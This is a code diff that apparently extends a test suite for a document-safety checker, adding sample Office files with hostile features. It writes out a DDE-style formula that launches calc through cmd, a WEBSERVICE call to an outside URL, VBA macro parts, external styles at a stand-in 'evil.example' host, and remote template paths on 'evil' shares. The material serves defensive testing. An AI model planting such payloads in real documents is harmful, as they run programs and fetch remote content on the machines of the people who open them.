@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+from functools import partial
+
 from making import (
     GOOD,
     NAMESPACES,
@@ -14,7 +16,7 @@ from making import (
     relations,
     zipped,
 )
-from sound import with_keys
+from sound import with_chart, with_keys, with_template
 
 
 def _linked(kind: str, target: str, *, outside: bool = False) -> bytes:
@@ -82,6 +84,21 @@ PROGRAMS: dict[str, Attack] = {
         lambda: _embedded("embeddings/t.xlsx", b"x", "package", "application/octet-stream"),
         "another program",
     ),
+    **{
+        f"a chart whose table {does}": Attack(make, "a chart with data")
+        for does, make in {
+            "fetches a page": lambda: with_chart('<c><f>_xlfn.WEBSERVICE("https://e.x")</f></c>'),
+            "starts a program": lambda: with_chart("<c><f>cmd|'/c calc'!A0</f></c>"),
+            "has macros": lambda: with_chart(workbook=(relation("vbaProject", "v", number=2),)),
+            "has data elsewhere": lambda: with_chart(
+                workbook=(relation("styles", "http://evil.example/s", outside=True, number=2),)
+            ),
+            "holds an object": lambda: with_chart('<oleObj r:id="x" xmlns:r="urn:r"/>'),
+        }.items()
+    },
+    "a chart whose table is of another kind": Attack(
+        lambda: with_chart(kind="template"), "another program"
+    ),
     "a web page inside": Attack(
         lambda: _embedded("chunk.html", b"<html/>", "aFChunk", "text/html"), "another program"
     ),
@@ -122,6 +139,10 @@ FETCHED: dict[str, Attack] = {
     "a template on a share": Attack(
         lambda: _linked("attachedTemplate", "file:///\\\\evil\\x.dotm", outside=True), "a template"
     ),
+    **{
+        f"a template at {target!r}": Attack(partial(with_template, target), "a template")
+        for target in ("file://evil/x.dotm", "//evil/x.dotm", "file:///%5C%5Cevil/x", "https:x")
+    },
     "a template in the settings": Attack(
         lambda: letter(GOOD, word__settings=_SETTINGS % '<w:attachedTemplate r:id="rId1"/>'),
         "a template",
